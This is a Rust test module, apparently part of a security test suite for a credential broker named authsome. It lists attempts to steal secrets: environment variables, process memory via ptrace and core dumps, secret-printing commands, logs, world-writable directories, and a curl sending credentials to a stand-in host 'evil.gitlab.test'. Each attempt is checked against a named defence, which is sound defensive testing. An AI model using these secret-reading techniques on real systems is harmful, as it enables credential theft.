//! Ring 1: read a secret where it lies.

use authsome_test_support::{Seen, kit};
use base64::Engine;
use base64::prelude::BASE64_STANDARD;

use crate::attempt::{Attempt, attempt};
use crate::defence::Defence::{
    self, CleanEnvironment, ConnectionTerms, HomeCheck, KeyDescriptor, LogRedaction, OwnVariables,
    PrivateFiles, PrivateMemory, SealIdentity, SecretCommands, SessionPlace,
};
use crate::machine::{Need, STRANGER};
use crate::stage::{HOST, Stage, directory};

pub(super) fn all() -> Vec<Attempt> {
    let mut all = environment();
    all.extend(memory());
    all.extend(commands());
    all.extend(files());
    all
}

/// What is printed has a secret.
fn loot(name: &'static str, against: &'static [Defence]) -> Attempt {
    attempt(name, against, |stage| {
        stage.connect(7200);
        let said = stage.run(&[])?;
        Ok(stage.leaks(&said))
    })
}

/// A variable that the user has set holds a secret.
fn variable(
    name: &'static str,
    against: &'static [Defence],
    of: fn(&Stage) -> (&'static str, String),
) -> Attempt {
    attempt(name, against, move |stage| {
        stage.connect(7200);
        let (name, value) = of(stage);
        stage.variable(name, value);
        let said = stage.run(&[])?;
        Ok(stage.leaks(&said))
    })
}

fn environment() -> Vec<Attempt> {
    vec![
        variable("environment variable", &[CleanEnvironment], |stage| {
            ("MY_TOKEN", stage.access())
        }),
        variable("appended variable", &[CleanEnvironment], |stage| {
            ("NODE_OPTIONS", format!("--title={}", stage.access()))
        }),
        attempt("basic in a variable", &[CleanEnvironment], |stage| {
            stage.connect(7200);
            let basic = BASE64_STANDARD.encode(format!("oauth2:{}", stage.access()));
            stage.variable("GIT_CONFIG_COUNT", "1");
            stage.variable("GIT_CONFIG_KEY_0", "http.extraHeader");
            stage.variable(
                "GIT_CONFIG_VALUE_0",
                format!("authorization: basic {basic}"),
            );
            let said = stage.run(&[])?;
            Ok(stage.leaks(&said))
        }),
        variable("master key variable", &[OwnVariables], |stage| {
            ("AUTHSOME_MASTER_KEY", stage.key())
        }),
        variable("environ of authsome", &[PrivateMemory], |stage| {
            ("MY_TOKEN", stage.access())
        }),
        attempt("key descriptor", &[KeyDescriptor], |stage| {
            stage.connect(7200);
            let key = stage.world.file("key", &stage.key());
            stage.variable("AUTHSOME_MASTER_KEY_FILE", "/dev/fd/3");
            let open = format!("exec 3<'{}'; exec \"$@\"", key.display());
            stage.behind(&["sh", "-c", &open, "sh"]);
            let said = stage.run(&[])?;
            Ok(stage.leaks(&said))
        }),
    ]
}

fn memory() -> Vec<Attempt> {
    vec![
        loot("memory of authsome", &[PrivateMemory]),
        loot("process vm readv", &[PrivateMemory]),
        loot("ptrace", &[PrivateMemory]),
        attempt("descriptors of authsome", &[PrivateMemory], |stage| {
            stage.connect(7200);
            Ok(stage.run(&[])?.stdout.contains("socket:"))
        }),
        attempt("core of authsome", &[PrivateMemory], |stage| {
            stage.connect(7200);
            stage.behind(&["sh", "-c", "ulimit -c unlimited; \"$@\"; exit 0", "sh"]);
            let said = stage.run(&[])?;
            Ok(stage.leaks(&said))
        })
        .needs(Need::CoreFiles),
    ]
}

fn commands() -> Vec<Attempt> {
    const AGAINST: &[Defence] = &[SecretCommands];
    let mut all: Vec<_> = [
        "export",
        "token",
        "token for a plugin",
        "get show secret",
        "credential for git",
        "a run that may export",
        "without the variable",
        "as a daemon",
        "by a copy",
    ]
    .into_iter()
    .map(|name| loot(name, AGAINST))
    .collect();
    all.push(attempt("a proxy that stays", AGAINST, |stage| {
        stage.connect(7200);
        Ok(stage.run(&[])?.stdout.contains("HTTPS_PROXY"))
    }));
    all.push(attempt("revoke", AGAINST, |stage| {
        stage.connect(7200);
        stage.run(&[])?;
        Ok(stage.gitlab.revocations() > 0)
    }));
    all.push(attempt("logout", AGAINST, |stage| {
        stage.connect(7200);
        stage.run(&[])?;
        let listed = stage.authsome(&["get", "gitlab"])?;
        Ok(listed.stderr.contains("not_found") || listed.stdout.is_empty())
    }));
    all.push(attempt("allow a rule", AGAINST, |stage| {
        stage.connect(7200);
        stage.run(&[])?;
        let settings = std::fs::read_to_string(stage.world.home().join("config.toml"));
        Ok(settings.is_ok_and(|text| text.contains("project-access-token")))
    }));
    all
}

fn files() -> Vec<Attempt> {
    vec![
        attempt("log of an earlier run", &[LogRedaction], |stage| {
            stage.connect(7200);
            let token = stage.access();
            stage.authsome(&["run", "--", "true", "--token", &token])?;
            let said = stage.run(&[])?;
            Ok(stage.leaks(&said))
        }),
        attempt("key of another user", &[PrivateFiles, HomeCheck], |stage| {
            stage.authsome(&["list"])?;
            let _ = stage.authsome(&["run", "--", "true"])?;
            directory(&stage.path("."), 0o755);
            let said = stage.outside(STRANGER)?;
            Ok(stage.leaks(&said))
        })
        .needs(Need::Users),
        attempt("swap two records", &[SealIdentity], swap_two_records),
        attempt("home that others can change", &[HomeCheck], |stage| {
            stage.connect(7200);
            directory(&stage.world.home(), 0o777);
            Ok(stage
                .authsome(&["run", "--", "echo", "it runs"])?
                .stdout
                .contains("it runs"))
        }),
        attempt(
            "session files that others can exchange",
            &[SessionPlace],
            |stage| {
                stage.connect(7200);
                let place = stage.path("open");
                directory(&place, 0o777);
                stage.variable("TMPDIR", &place);
                let shown = ["run", "--", "sh", "-c", "echo \"$SSL_CERT_FILE\""];
                let said = stage.authsome(&shown)?;
                Ok(said.stdout.contains("/open/"))
            },
        ),
        attempt(
            "definition with another host",
            &[ConnectionTerms],
            |stage| {
                stage.connect(7200);
                stage.trust_the_world();
                let evil = format!("evil.gitlab.test:{}", stage.gitlab.port());
                stage.fact("evil", evil.clone());
                stage.run(&[])?;
                let evil = format!("https://{evil}/api/v4/user");
                stage.authsome(&["run", "--", "curl", "-sk", &evil])?;
                let to_evil = |seen: &Seen| {
                    let host = seen.header(":authority").or_else(|| seen.header("host"));
                    host.is_some_and(|host| host.starts_with("evil."))
                };
                Ok(stage.authorized().iter().any(to_evil))
            },
        ),
        attempt(
            "definition without its guard",
            &[ConnectionTerms],
            |stage| {
                stage.connect(7200);
                stage.run(&[])?;
                let url = format!(
                    "https://gitlab.test:{}/api/v4/projects/1/access_tokens",
                    stage.gitlab.port()
                );
                stage.authsome(&["run", "--", "curl", "-s", "-d", "name=mine", &url])?;
                Ok(stage.arrived("POST", "access_tokens"))
            },
        ),
    ]
}

/// The next run is given the connection `narrow`, and gets the account of `wide`. Both are stored
/// by the binary itself, as a login does.
fn swap_two_records(stage: &mut Stage) -> Result<bool, String> {
    let _port = kit::port_7998();
    let app = stage.gitlab.register_app(false);
    let browser = kit::browser_script(&stage.path("."), stage.gitlab.ca_file());
    let trusted = stage.world.file("ca.pem", stage.gitlab.ca_pem());
    stage.variable("BROWSER", browser);
    let (base, trusted) = (
        stage.gitlab.base_url_at(HOST),
        trusted.display().to_string(),
    );
    for name in ["wide", "narrow"] {
        let words = ["login", "gitlab", "--connection", name, "--base-url", &base];
        let more = ["--ca-file", &trusted, "--client-id", &app.client_id];
        stage.authsome(&[&words[..], &more].concat())?;
    }
    let wide = stage.gitlab.live_pairs().into_iter().next();
    stage.pair = Some(wide.ok_or("no login")?);
    stage.run(&["--connection", "gitlab=wide"])?;
    stage.gitlab.clear_seen();
    let url = format!("{base}/api/v4/user");
    stage.authsome(&[
        "run",
        "--connection",
        "gitlab=narrow",
        "--",
        "curl",
        "-s",
        &url,
    ])?;
    let access = stage.access();
    let carries = |seen: &Seen| {
        seen.headers
            .iter()
            .any(|(_, value)| value.contains(&access))
    };
    Ok(stage.gitlab.seen().iter().any(carries))
}
